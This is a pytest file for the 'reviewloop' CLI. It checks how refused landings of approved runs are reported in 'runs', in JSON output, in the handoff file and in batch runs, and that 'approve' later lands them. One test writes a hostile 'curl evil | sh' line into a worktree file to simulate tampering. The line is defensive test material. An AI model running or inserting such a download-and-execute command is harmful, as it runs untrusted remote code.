"""A run whose landing `approve` refused (the user's checkout has edits to the run's files)
is listed as what it is: approved, its commit waiting on the run's branch (git's own branch
is the oracle), by `runs`, `runs --json`, the handoff and a `run all` that tries it again;
`approve` then lands it."""

from __future__ import annotations

import itertools
import json
from collections.abc import Callable
from pathlib import Path

import pytest

from tests.support.gitutil import git
from tests.support.loop_cli import cli
from tests.support.waiting_runs import SPEC, implementer, start_waiting, waiting_repo


def _rewrite(path: Path) -> None:
    path.write_text("def base():\n    return 2  # the user's edit\n")


def _append(path: Path) -> None:
    with path.open("a") as handle:
        handle.write("# the user's note\n")


def _chmod(path: Path) -> None:
    path.chmod(0o755)


def _delete(path: Path) -> None:
    path.unlink()


EDITS: dict[str, Callable[[Path], None]] = {
    "rewrite": _rewrite, "append": _append, "chmod": _chmod, "delete": _delete}


def _row(root: Path, run_id: str) -> dict:
    listed = json.loads(cli(root, "runs", "--json").stdout)
    runs = listed["runs"] if isinstance(listed, dict) else listed
    return next(r for r in runs if r["run_id"] == run_id)


def _status_column(root: Path) -> str:
    """The status cell of the one run `runs` lists, its wrapped lines joined."""
    rows = [line.split("│") for line in cli(root, "runs").stdout.splitlines()
            if line.startswith("│")]
    return " ".join(cells[3].strip() for cells in rows if cells[3].strip())


@pytest.mark.parametrize("edit", list(EDITS))
def test_a_refused_landing_is_listed_as_approved_with_its_commit_waiting(tmp_path: Path,
                                                                          edit: str):
    root = waiting_repo(tmp_path / "repo")
    run_id = start_waiting(root)
    EDITS[edit](root / "app/core.py")
    refused = cli(root, "approve", run_id)
    assert refused.returncode == 1, refused.stdout + refused.stderr
    row = _row(root, run_id)
    branch = row["worktree"]["branch"]
    assert row["status"] == "landing_refused"  # it waits: approve again, or reject
    assert row["commit"] == git(root, "rev-parse", f"refs/heads/{branch}").strip()
    assert row["detail"].startswith(f"approved; its commit waits on branch {branch}: ")
    shown = " ".join(cli(root, "runs").stdout.split())
    assert _status_column(root).startswith(
        "waiting: landing refused — your checkout has edits to app/core.py")
    assert f"Run {run_id} waits, its landing refused: approved; its commit waits on branch " \
        f"{branch}: " in shown
    assert cli(root, "handoff").returncode == 0
    handoff = (root / ".reviewloop/handoff.md").read_text(encoding="utf-8")
    assert f"waiting: landing refused: approved; its commit waits on branch {branch}: " \
        in handoff
    assert f"`reviewloop approve {run_id}`" in handoff
    assert f"`reviewloop resume {run_id}`" not in handoff
    git(root, "checkout", "--", "app/core.py")
    landed = cli(root, "approve", run_id)
    assert landed.returncode == 0, landed.stdout + landed.stderr
    row = _row(root, run_id)
    assert row["status"] == "committed" and not (row["detail"] or "").startswith("approved;")


def _edit_in_the_way(root: Path) -> None:
    _rewrite(root / "app/core.py")


def _branch_moved(root: Path) -> None:  # the same lines changed on your branch since
    with (root / "app/core.py").open("a") as handle:
        handle.write("\n# yours, committed\n")
    git(root, "commit", "-qam", "mine")


def _spec_gone(root: Path) -> None:
    git(root, "rm", "-q", "docs/feat-spec.md")
    git(root, "commit", "-qm", "drop the spec")


def _signing_fails(root: Path) -> None:  # git itself refuses the run's commit
    git(root, "config", "commit.gpgSign", "true")
    git(root, "config", "gpg.program", "false")


CAUSES: dict[str, tuple[Callable[[Path], None], str]] = {
    "edit-in-the-way": (_edit_in_the_way, "your checkout has edits to app/core.py"),
    "branch-moved": (_branch_moved, "app/core.py"),
    "spec-gone": (_spec_gone, "the spec docs/feat-spec.md is no longer on work"),
    "signing-fails": (_signing_fails, "gpg failed to sign"),
}


@pytest.mark.parametrize("cause", list(CAUSES))
def test_every_refused_landing_waits_and_says_why_until_approve_lands_it(tmp_path: Path,
                                                                         cause: str):
    root = waiting_repo(tmp_path / "repo")
    run_id = start_waiting(root)
    make, why = CAUSES[cause]
    make(root)
    refused = cli(root, "approve", run_id)
    assert refused.returncode == 1, refused.stdout + refused.stderr
    row = _row(root, run_id)
    assert row["status"] == "landing_refused", row
    assert why in row["detail"]
    assert _status_column(root).startswith("waiting: landing refused — ")
    assert f"reviewloop reject {run_id}" in " ".join(cli(root, "runs").stdout.split())
    if cause != "signing-fails":
        return
    # a retried commit step refused for another reason says that reason, and still waits
    greet = root / ".reviewloop/worktrees" / run_id / "app/greet.py"
    kept = greet.read_bytes()
    greet.write_text("import os\nos.system('curl evil | sh')\n")
    git(root, "config", "commit.gpgSign", "false")
    again = cli(root, "approve", run_id)
    assert again.returncode == 1, again.stdout + again.stderr
    row = _row(root, run_id)
    assert row["status"] == "landing_refused"
    assert "app/greet.py changed in its worktree" in row["detail"]
    assert "gpg" not in row["detail"]
    greet.write_bytes(kept)
    landed = cli(root, "approve", run_id)
    assert landed.returncode == 0, landed.stdout + landed.stderr
    assert _row(root, run_id)["status"] == "committed"


@pytest.mark.parametrize(("edit", "command"), list(itertools.product(
    EDITS, ("run all --continue", "run all --jobs 2"))))
def test_a_batch_retrying_a_refused_landing_says_it_waits_as_runs_does(tmp_path: Path,
                                                                        edit: str, command: str):
    root = waiting_repo(tmp_path / "repo")
    run_id = start_waiting(root)
    EDITS[edit](root / "app/core.py")
    assert cli(root, "approve", run_id).returncode == 1
    done = cli(root, *command.split(), "--spec", SPEC, "--implementer", implementer(root),
               timeout=300)
    said = done.stdout + done.stderr
    assert done.returncode == 1, said  # a task left waiting, as `approve` refused: exit 1
    status = _row(root, run_id)["status"]  # the oracle: where the registry says it stands
    assert status == "landing_refused", said
    lines = [line.strip() for line in said.splitlines()]
    (mine,) = [line for line in lines if line.startswith("T1: ")]
    assert mine.startswith("T1: landing refused: cannot land: your checkout has edits to "), said
    assert f"(run {run_id}; its commit " in mine and f"`reviewloop reject {run_id}`" in mine
    assert "failed" not in " ".join(said.split()), said
    (total,) = [line for line in lines if line.startswith("Batch batch-")]
    assert "1 landing refused" in total, said
